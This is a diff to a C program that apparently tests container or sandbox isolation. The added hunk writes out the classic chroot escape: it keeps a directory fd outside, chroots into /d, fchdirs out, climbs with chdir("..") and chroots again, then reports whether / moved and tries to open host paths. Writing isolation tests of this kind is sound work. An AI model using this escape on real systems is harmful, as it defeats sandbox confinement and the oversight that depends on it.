@@ -106,6 +106,24 @@ int main(int argc, char **argv) {
   r = syscall(SYS_open_by_handle_at, root, &fh.h, O_RDONLY);
   show_r("open_by_handle_at (oversized handle)", r < 0 ? r : 0);
 
+  // The classic way out of a chroot, as root with CAP_SYS_CHROOT: keep a directory outside
+  // the new root, chroot into a subdirectory, fchdir back out, climb, chroot there. In a
+  // container it only climbs to the container's root (natively in a plain chroot it escapes).
+  struct stat top;
+  stat("/", &top);
+  int outside = open("/", O_RDONLY | O_DIRECTORY);
+  show_r("chroot /d", chroot("/d"));
+  show_r("fchdir out of it", fchdir(outside));
+  for (int i = 0; i < 32; i++) chdir("..");
+  show_r("chroot .", chroot("."));
+  struct stat now;
+  stat("/", &now);
+  printf("after the chroot escape, / is: %s\n",
+         now.st_dev == top.st_dev && now.st_ino == top.st_ino ? "the container's root" : "ELSEWHERE");
+  try_open("after the chroot escape, host path", AT_FDCWD, host);
+  snprintf(p, sizeof p, "/../%s", beside);
+  try_open("after the chroot escape, beside", AT_FDCWD, p);
+
   if (argc > 3) {
     FILE *f = fopen(argv[3], "r");
     char name[64];
